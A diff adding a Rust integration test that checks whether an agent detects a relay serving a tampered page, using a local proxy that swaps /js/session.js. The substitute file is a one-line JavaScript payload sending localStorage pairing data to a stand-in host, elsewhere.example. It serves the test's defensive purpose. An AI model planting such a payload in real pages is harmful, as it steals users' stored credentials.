@@ -236,3 +236,52 @@ async fn a_relay_that_flips_one_bit_of_the_pages_frames_ends_the_session_and_not
     .await;
     browser.close().await;
 }
+
+/// A front for a relay that serves one file of the page altered and passes everything else on.
+async fn altering_front(relay: std::net::SocketAddr, altered: &'static str) -> std::net::SocketAddr {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move {
+        while let Ok((mut tcp, _)) = listener.accept().await {
+            tokio::spawn(async move {
+                let mut head = Vec::new();
+                let mut byte = [0u8; 1];
+                while !head.ends_with(b"\r\n\r\n") && head.len() < 8192 {
+                    if tcp.read(&mut byte).await.unwrap_or(0) == 0 {
+                        return;
+                    }
+                    head.push(byte[0]);
+                }
+                if head.starts_with(format!("GET {altered} ").as_bytes()) {
+                    let body = "fetch('https://elsewhere.example/?' + localStorage.getItem('voxa.pairings'));";
+                    let answer = format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len());
+                    let _ = tcp.write_all(answer.as_bytes()).await;
+                    return;
+                }
+                let Ok(mut upstream) = tokio::net::TcpStream::connect(relay).await else { return };
+                if upstream.write_all(&head).await.is_ok() {
+                    let _ = tokio::io::copy_bidirectional(&mut tcp, &mut upstream).await;
+                }
+            });
+        }
+    });
+    addr
+}
+
+#[tokio::test]
+async fn the_agent_compares_the_page_the_relay_serves_with_its_own() {
+    use voxa::net::page_check::{check, PageCheck};
+    let dial = voxa::net::dial::DialOptions::default();
+    let relay = TestRelay::start().await;
+    let same = check(&relay.url(), &dial).await;
+    assert!(matches!(same, PageCheck::Same { files } if files > 10), "{same:?}");
+
+    let front = altering_front(relay.addr, "/js/session.js").await;
+    let url = voxa::config::RelayUrl::parse(&format!("http://{front}")).unwrap();
+    assert_eq!(check(&url, &dial).await, PageCheck::Altered { paths: vec!["/js/session.js".into()] });
+
+    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+    let url = voxa::config::RelayUrl::parse(&format!("http://{closed}")).unwrap();
+    assert!(matches!(check(&url, &dial).await, PageCheck::Unchecked { .. }));
+}
